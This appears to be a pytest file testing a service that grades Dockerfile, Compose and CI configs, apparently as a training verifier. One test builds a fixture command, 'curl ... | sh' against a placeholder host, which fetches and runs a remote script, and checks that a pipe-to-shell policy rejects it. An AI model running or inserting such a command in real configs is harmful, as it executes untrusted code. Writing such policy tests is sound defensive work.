"""POST /verify and the rules judge: the verdict that training gives."""

from typing import Any

import pytest
from fastapi.testclient import TestClient


def test_verify_gives_the_verdict_that_training_gives(client: TestClient) -> None:
    checks = [{"op": "equals", "kind": "image", "path": "user", "value": "app"}]
    good = {"category": "dockerfile", "text": "FROM python:3.12-slim\nUSER app\n", "checks": checks}
    verdict = client.post("/verify", json=good).json()
    assert (verdict["verdict"], verdict["score"]) == ("pass", 1.0)
    verdict = client.post("/verify", json={**good, "text": "FROM python:3.12-slim\n"}).json()
    assert (verdict["verdict"], verdict["rungs"]["intent"]) == ("fail", "fail")


@pytest.mark.parametrize(
    ("body", "param"),
    [
        ({"text": "x", "category": "cobol"}, "category"),
        ({"category": "compose"}, "text"),
        (
            {"text": "x", "category": "compose", "checks": [{"op": "sings", "kind": "service"}]},
            "checks.0.op",
        ),
        (
            {"text": "x", "category": "compose", "checks": [{"op": "equals", "kind": "service"}]},
            "checks.0.path",
        ),
        (
            {
                "text": "x",
                "category": "compose",
                "checks": [{"op": "matches", "kind": "service", "path": "a", "value": "("}],
            },
            "checks.0.value",
        ),
    ],
)
def test_a_request_that_cannot_be_judged_names_its_field(
    client: TestClient, body: dict[str, Any], param: str
) -> None:
    answer = client.post("/verify", json=body)
    assert (answer.status_code, answer.json()["error"]["param"]) == (422, param)


def test_the_rules_judge_scores_by_the_verdict(client: TestClient) -> None:
    body = {
        "category": "dockerfile",
        "instruction": "Run as app.",
        "answer": "```dockerfile\nFROM python:3.12-slim\nUSER app\n```",
    }
    judged = client.post("/judge", json=body).json()
    assert judged["would_work"] is True and judged["overall"] > 8
    nonsense = client.post(
        "/judge", json={**body, "answer": "FROM my experience this is easy.\nRUN along now."}
    ).json()
    assert nonsense["would_work"] is False and nonsense["overall"] <= 4


def test_a_listed_policy_counts_where_the_category_has_it(client: TestClient) -> None:
    download = "curl -s https://x.example.com/a.sh | sh"
    texts = {
        "dockerfile": f"FROM alpine:3.20\nUSER app\nRUN {download}\n",
        "gitlab-ci": f"build:\n  script: {download}\n",
        "compose": "services:\n  web:\n    image: nginx:1.27\n",
    }
    bodies = [
        {"category": name, "text": text, "policies": ["pipe-to-shell"]}
        for name, text in texts.items()
    ]
    verdicts = [client.post("/verify", json=body).json()["verdict"] for body in bodies]
    assert verdicts == ["fail", "fail", "pass"]
    refused = client.post("/verify", json={**bodies[0], "policies": ["pipe-to-shel"]})
    error = refused.json()["error"]
    assert (refused.status_code, error["param"]) == (422, "policies.0")
    assert "did you mean 'pipe-to-shell'?" in error["message"]
